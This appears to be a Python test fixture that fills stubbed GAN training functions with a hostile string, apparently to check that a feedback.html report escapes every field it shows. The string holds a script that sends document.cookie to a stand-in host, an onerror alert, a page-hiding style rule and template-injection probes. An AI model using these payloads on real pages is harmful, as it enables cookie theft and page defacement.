"""Puts scripts and markup into everything that a page may show: messages, types, names, cells.

Aim: a script that runs in the browser of whoever reads feedback.html, or marks drawn over the page.
Defence: report
Control: none: the page has no unescaped way in; tests of the report put the same texts there
Part: function_gan
"""

SCRIPT = (
    "</pre></title><script>fetch('http://127.0.0.1/?' + document.cookie)</script>"
    "<img src=x onerror=alert(1)><style>*{display:none}</style>{{ 7 * 7 }}{% include 'x' %}\x1b[2J"
)
Scripted = type(SCRIPT, (Exception,), {"__module__": SCRIPT})


def sample_real(n, curve, rng):
    raise RuntimeError(SCRIPT)


def he_uniform(shape, rng):
    raise Scripted(SCRIPT)


def adam_step(params, grads, state, lr=1e-3, beta_1=0.9, beta_2=0.999, epsilon=1e-7):
    raise AssertionError(SCRIPT)


def make_generator(latent_dim=5, n_outputs=2):
    return type(SCRIPT, (), {})()


def discriminator_loss(real_logits, fake_logits):
    exec(compile("raise ValueError", SCRIPT, "exec"))


def untrained_distance(curve, rng):
    return {SCRIPT: SCRIPT}


raise RuntimeError(SCRIPT)
